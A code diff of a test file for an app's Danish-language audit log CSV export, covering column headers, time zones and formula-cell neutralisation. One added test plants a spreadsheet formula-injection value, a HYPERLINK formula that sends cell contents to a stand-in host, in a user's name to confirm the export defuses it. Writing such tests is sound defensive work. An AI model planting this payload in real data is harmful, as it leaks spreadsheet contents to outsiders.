@@ -1,6 +1,6 @@
 import { describe, it, expect, afterEach } from 'vitest';
 import Papa from 'papaparse';
-import { createTestVault, OWNER, type TestVault } from './helpers';
+import { createTestVault, OWNER, PASSPHRASE, type TestVault } from './helpers';
 import type { CaseDetail } from '../../src/shared/cases/contract';
 
 let v: TestVault;
@@ -30,13 +30,30 @@ describe('audit viewer', () => {
     expect(exported.fileName).toBe('ssp-desk-revisionsspor-2026-11-21.csv');
     expect(exported.csv.startsWith('\uFEFF')).toBe(true);
     const parsed = Papa.parse<string[]>(exported.csv.slice(1).trim(), { delimiter: ';' });
-    expect(parsed.data[0]).toEqual(['Nr.', 'Tidspunkt', 'Bruger', 'Handling', 'Post', 'Post-id', 'Detaljer']);
-    expect(parsed.data.slice(1).map((r) => [r[2], r[3], r[4], r[5]])).toEqual([
-      [OWNER.name, 'view', 'case', String(c.id)],
-      [OWNER.name, 'view', 'case', String(c.id)],
+    expect(parsed.data[0]).toEqual(['Nr.', 'Tidspunkt (dansk tid)', 'Bruger', 'Handling', 'Område', 'Post-nr.', 'Detaljer', 'Handlingskode', 'Områdekode', 'Detaljekode']);
+    // 09:00 UTC on 21 November is 10:00 in Copenhagen (winter time), written as a date-time value.
+    expect(parsed.data.slice(1).map((r) => [r[1], r[2], r[3], r[4], r[5], r[7], r[8]])).toEqual([
+      ['2026-11-21 10:00:00', OWNER.name, 'Set', 'Sag', String(c.id), 'view', 'case'],
+      ['2026-11-21 10:00:00', OWNER.name, 'Set', 'Sag', String(c.id), 'view', 'case'],
     ]);
     expect(exported.csv).not.toContain('Prøvesen');
     // The export itself is recorded.
     expect((await v.call<AuditList>('audit.list', { action: 'export' })).rows.map((r) => r.entity)).toEqual(['audit_log']);
+  });
+
+  it('the CSV neutralises formula cells (the shared guard), says actions, areas and details in Danish, and summer time is +2', async () => {
+    const now = new Date('2026-07-01T22:30:00Z').getTime();
+    v = await createTestVault({ create: false, now: () => new Date(now) });
+    const owner = { name: '=HYPERLINK("http://x.example/?q="&A1;"Klik")', role: '+SSP', area: '@Amager' };
+    await v.call('vault.create', { passphrase: PASSPHRASE, passphraseConfirm: PASSPHRASE, owner });
+    await v.call('settings.update', { backupReminderDays: 9, idleLockMinutes: 7 });
+    const { csv } = await v.call<{ csv: string }>('audit.export', {});
+    const rows = Papa.parse<string[]>(csv.slice(1).trim(), { delimiter: ';' }).data.slice(1);
+    // Every user cell starts with an apostrophe: Excel shows the text, never runs it.
+    for (const r of rows) expect(r[2]).toBe(`'${owner.name}`);
+    const settings = rows.find((r) => r[8] === 'settings' || r[8] === 'setting')!;
+    expect(settings.slice(1, 7)).toEqual(['2026-07-02 00:30:00', `'${owner.name}`, 'Ændret', 'Indstillinger', '', 'Påmindelse om sikkerhedskopi (dage), Automatisk lås (minutter)']);
+    expect(settings[9]).toBe('backupReminderDays,idleLockMinutes');
+    expect(csv).not.toMatch(/;=HYPERLINK/);
   });
 });
